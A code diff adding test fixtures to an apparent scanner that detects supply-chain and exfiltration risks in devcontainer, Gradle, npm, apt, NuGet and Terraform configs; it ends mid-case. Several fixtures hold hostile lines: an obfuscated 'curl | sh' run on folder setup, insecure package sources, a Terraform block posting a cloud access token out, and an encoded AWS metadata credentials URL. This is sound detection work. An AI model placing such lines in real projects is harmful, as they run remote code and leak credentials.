@@ -38,9 +38,14 @@ CASES = [
         ".vscode/tasks.json": _tasks("npx", ["--yes", "lint-warmup@latest"], run_on="")}, expect=CLEAN),
     variant("vscode-folder-open-local-watch", {
         ".vscode/tasks.json": _tasks("npm", ["run", "watch"])}, expect=CLEAN),
+    # a dev container's setup installs tools: that is its job, not a folder-open surprise
     variant("devcontainer-post-create-pnpm-dlx", {
         ".devcontainer/devcontainer.json": '{\n  "image": "node:20",\n  "postCreateCommand": {"deps": "npm ci", '
                                            '"warm": "pnpm dlx cache-primer@latest --global"}\n}\n'},
+        expect=CLEAN),
+    variant("devcontainer-initialize-decoded-fetch", {
+        ".devcontainer/devcontainer.json": '{\n  "image": "node:20",\n  "initializeCommand": ["bash", "-c", "eval \\"$(echo '
+                                           + _b64("curl -s https://dc-init.toolcdn.net/h | sh") + ' | base64 -d)\\""]\n}\n'},
         expect=["supply-chain"]),
     variant("devcontainer-post-create-npm-ci", {
         ".devcontainer/devcontainer.json": '{\n  "image": "node:20",\n  // install the lockfile\n'
@@ -78,6 +83,42 @@ CASES = [
     variant("cargo-vendored-sources", {
         ".cargo/config.toml": '[source.crates-io]\nreplace-with = "vendored-sources"\n\n[source.vendored-sources]\n'
                               'directory = "vendor"\n'}, expect=CLEAN),
+    variant("gradle-insecure-http-repo", {
+        "build.gradle": "repositories {\n  maven {\n    url 'http://artifacts.fastbuild.cc/libs'\n"
+                        "    allowInsecureProtocol = true\n  }\n  mavenCentral()\n}\n"}, expect=["supply-chain"]),
+    variant("gradle-insecure-http-repo-private-network", {
+        "build.gradle": "repositories {\n  maven {\n    url 'http://10.0.4.12:8081/repository/libs'\n"
+                        "    allowInsecureProtocol = true\n  }\n}\n"}, expect=CLEAN),
+    variant("npmrc-strict-ssl-off", {".npmrc": "registry=https://registry.npmjs.org/\nstrict-ssl=false\n"},
+            expect=["supply-chain"]),
+    variant("npmrc-scoped-https-registry", {".npmrc": "@acme:registry=https://npm.acme.example/\nsave-exact=true\n"},
+            expect=CLEAN),
+    variant("yarnrc-http-registry", {".yarnrc.yml": 'nodeLinker: node-modules\nnpmRegistryServer: "http://npm.fastyarn.cc"\n'},
+            expect=["supply-chain"]),
+    variant("apt-source-trusted-yes", {"conf/tools.list": "deb [trusted=yes] http://apt.devtools-mirror.net/ stable main\n"},
+            expect=["supply-chain"]),
+    variant("apt-source-local-file-trusted", {"conf/local.list": "deb [trusted=yes] file:/srv/local-debs ./\n"},
+            expect=CLEAN),
+    variant("apt-source-signed", {"conf/tools.list": "deb [signed-by=/usr/share/keyrings/tools.gpg] https://apt.tools.example/ stable main\n"},
+            expect=CLEAN),
+    variant("bundler-ssl-verify-off", {".bundle/config": '---\nBUNDLE_PATH: "vendor/bundle"\nBUNDLE_SSL_VERIFY_MODE: "0"\n'},
+            expect=["supply-chain"]),
+    variant("nuget-http-source", {"NuGet.config": '<configuration>\n  <packageSources>\n    <clear />\n'
+                                                  '    <add key="fast" value="http://nuget.fastpkgs.cc/v3/index.json" />\n'
+                                                  '  </packageSources>\n</configuration>\n'}, expect=["supply-chain"]),
+    variant("nuget-org-source", {"NuGet.config": '<configuration>\n  <packageSources>\n    <clear />\n'
+                                                 '    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" />\n'
+                                                 '  </packageSources>\n</configuration>\n'}, expect=CLEAN),
+    # ---------------------------------------------------------------- Terraform: what a data source sends during plan
+    variant("terraform-posts-google-access-token", {
+        "infra/audit.tf": 'data "google_client_config" "me" {}\n\ndata "http" "audit" {\n'
+                          '  url    = "https://audit.tf-insights.io/v1/run"\n  method = "POST"\n'
+                          '  request_body = jsonencode({ token = data.google_client_config.me.access_token })\n}\n'},
+        expect=["exfiltration"]),
+    variant("terraform-posts-project-id-to-webhook", {
+        "infra/notify.tf": 'data "http" "notify" {\n  url    = var.webhook_url\n  method = "POST"\n'
+                           '  request_body = jsonencode({ project = var.project_id, region = var.region })\n}\n'},
+        expect=CLEAN),
     # ---------------------------------------------------------------- encoded values a config decodes
     variant("terraform-aws-imds-host-in-decoded-local", {
         "infra/main.tf": 'locals {\n  probe = base64decode("' + _b64("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
